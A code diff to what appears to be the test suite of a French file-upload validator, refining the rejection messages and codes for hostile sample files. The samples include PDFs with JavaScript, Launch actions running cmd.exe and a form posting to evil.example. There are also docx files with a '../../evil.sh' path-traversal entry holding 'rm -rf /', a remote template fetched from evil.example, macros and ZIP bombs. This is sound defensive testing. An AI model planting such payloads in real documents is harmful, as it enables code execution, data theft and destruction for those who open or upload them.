@@ -94,9 +94,21 @@ def xlsx_bytes() -> bytes:
     return buffer.getvalue()
 
 
-def odf_bytes(mimetype: str, content: bytes = b"<office:document-content/>") -> bytes:
+ODF_CONTENT_XML = (
+    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3"/>'
+)
+ODF_MANIFEST_XML = (
+    b'<?xml version="1.0" encoding="UTF-8"?>'
+    b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
+)
+
+
+def odf_bytes(mimetype: str, content: bytes = ODF_CONTENT_XML) -> bytes:
+    """The XML is well-formed, namespaces declared, as in every real OpenDocument file (an undeclared
+    prefix makes the part unreadable, and the document is refused as damaged)."""
     return zip_bytes(
-        {"mimetype": mimetype.encode(), "content.xml": content, "META-INF/manifest.xml": b"<manifest/>"},
+        {"mimetype": mimetype.encode(), "content.xml": content, "META-INF/manifest.xml": ODF_MANIFEST_XML},
         stored_first=True,
     )
 
@@ -333,7 +345,8 @@ def png_with_text_chunk(text: bytes) -> bytes:
 
 
 POLYGLOT = "cache un autre contenu"
-ACTIVE_PDF = "Les fichiers PDF contenant des scripts, des actions ou des fichiers incorporés ne sont pas acceptés"
+PDF_SCRIPTS = "Ce PDF contient des scripts (JavaScript) : il ne peut pas être déposé"
+PDF_LAUNCH = "Ce PDF contient une action qui ouvre un programme (Launch)"
 BAD_TYPE = "Le contenu de ce fichier n'est pas dans un format accepté"
 BOMB = "beaucoup trop volumineux une fois décompressé"
 DAMAGED = "Ce fichier est endommagé"
@@ -364,17 +377,17 @@ def hostile_samples() -> tuple[Sample, ...]:
         # Empty
         Sample("empty file", "statuts.pdf", lambda: b"", message="Le fichier est vide", code="empty"),
         # PDF active content
-        Sample("PDF with OpenAction JavaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with obfuscated /J#61vaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with a hex-escaped /L#61#75nch", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /L#61#75nch /F (cmd.exe) >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with a launch action", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with document-level JavaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/Names << /JavaScript 4 0 R >>", b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with an embedded file", "statuts.pdf", lambda: pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", b"<< /Type /Filespec /F (a.exe) >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with an XFA form", "statuts.pdf", lambda: pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with a form submission action", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), message=ACTIVE_PDF, code="pdf_active"),
-        Sample("PDF with JavaScript in a compressed object stream", "statuts.pdf", lambda: pdf_with_object_stream_javascript(), message=ACTIVE_PDF, code="pdf_active"),
+        Sample("PDF with OpenAction JavaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), message=PDF_SCRIPTS, code="pdf_javascript"),
+        Sample("PDF with obfuscated /J#61vaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), message=PDF_SCRIPTS, code="pdf_javascript"),
+        Sample("PDF with a hex-escaped /L#61#75nch", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /L#61#75nch /F (cmd.exe) >>"), message=PDF_LAUNCH, code="pdf_launch"),
+        Sample("PDF with a launch action", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), message=PDF_LAUNCH, code="pdf_launch"),
+        Sample("PDF with document-level JavaScript", "statuts.pdf", lambda: pdf_with_catalog(b"/Names << /JavaScript 4 0 R >>", b"<< /Names [(a) << /S /JavaScript /JS (x) >>] >>"), message=PDF_SCRIPTS, code="pdf_javascript"),
+        Sample("PDF with an embedded file", "statuts.pdf", lambda: pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", b"<< /Type /Filespec /F (a.exe) >>"), message="Ce PDF contient des fichiers incorporés", code="pdf_embedded_file"),
+        Sample("PDF with an XFA form", "statuts.pdf", lambda: pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< >>"), message="Ce PDF contient un formulaire dynamique XFA", code="pdf_xfa"),
+        Sample("PDF with a form submission action", "statuts.pdf", lambda: pdf_with_catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), message="Ce PDF contient un formulaire qui envoie ses données sur internet", code="pdf_submit_form"),
+        Sample("PDF with JavaScript in a compressed object stream", "statuts.pdf", lambda: pdf_with_object_stream_javascript(), message=PDF_SCRIPTS, code="pdf_javascript"),
         *(Sample(f"PDF protected by a password ({algorithm})", "rib.pdf", functools.partial(encrypted_pdf, algorithm), message="Ce PDF est protégé par un mot de passe", code="pdf_encrypted") for algorithm in PDF_ENCRYPTIONS),
-        *(Sample(f"PDF with JavaScript, encrypted without password ({algorithm})", "rib.pdf", functools.partial(encrypted_pdf, algorithm, user_password="", javascript=True), message=ACTIVE_PDF, code="pdf_active") for algorithm in PDF_ENCRYPTIONS),
+        *(Sample(f"PDF with JavaScript, encrypted without password ({algorithm})", "rib.pdf", functools.partial(encrypted_pdf, algorithm, user_password="", javascript=True), message=PDF_SCRIPTS, code="pdf_javascript") for algorithm in PDF_ENCRYPTIONS),
         Sample("PDF that cannot be parsed", "statuts.pdf", lambda: b"%PDF-1.4\n" + b"garbage " * 40 + b"\n%%EOF\n", message=DAMAGED, code="damaged"),
         # Office documents: bombs, macros, active parts
         Sample("ZIP bomb disguised as .docx", "rapport.docx", lambda: docx_bomb(), ("docx", "odt"), BOMB, "zip_bomb"),
@@ -385,10 +398,10 @@ def hostile_samples() -> tuple[Sample, ...]:
         Sample("docx lying about its sizes", "rapport.docx", lambda: lying_sizes_docx(), ("docx",), DAMAGED, "damaged"),
         Sample("docx with overlapping entries", "rapport.docx", lambda: overlapping_entries_docx(), ("docx",), BOMB, "zip_bomb"),
         Sample("docx with a path traversal entry", "rapport.docx", lambda: docx_bytes({"../../evil.sh": b"rm -rf /"}), ("docx",), DAMAGED, "damaged"),
-        Sample("docx with macros", "rapport.docx", lambda: docx_bytes({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ("docx",), "macros", "macros"),
-        Sample("docx with an ActiveX control", "rapport.docx", lambda: docx_bytes({"word/activeX/activeX1.xml": b"<ax/>"}), ("docx",), "contrôles ActiveX", "active_parts"),
-        Sample("docx with a remote template", "rapport.docx", lambda: docx_bytes({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'}), ("docx",), "modèles distants", "active_parts"),
-        Sample("ODT with Basic macros", "rapport.odt", lambda: zip_bytes({"mimetype": ODT.encode(), "content.xml": b"<c/>", "Basic/Standard/Module1.xml": b"<m/>"}, stored_first=True), ("odt",), "macros", "macros"),
+        Sample("docx with macros", "rapport.docx", lambda: docx_bytes({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ("docx",), "Ce document Word contient des macros", "macros"),
+        Sample("docx with an ActiveX control", "rapport.docx", lambda: docx_bytes({"word/activeX/activeX1.xml": b"<ax/>"}), ("docx",), "Ce document Word contient des contrôles ActiveX", "office_activex"),
+        Sample("docx with a remote template", "rapport.docx", lambda: docx_bytes({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'}), ("docx",), "Ce document Word fait appel à un modèle distant", "office_remote_template"),
+        Sample("ODT with Basic macros", "rapport.odt", lambda: zip_bytes({"mimetype": ODT.encode(), "content.xml": b"<c/>", "Basic/Standard/Module1.xml": b"<m/>"}, stored_first=True), ("odt",), "Ce document texte OpenDocument contient des macros", "macros"),
         Sample("damaged ZIP as .docx", "rapport.docx", lambda: b"PK\x03\x04" + b"\x00" * 200, ("docx",), DAMAGED, "damaged"),
         # Names
         Sample("double extension .exe.pdf", "statuts.exe.pdf", lambda: pdf, message="double extension", code="double_extension"),
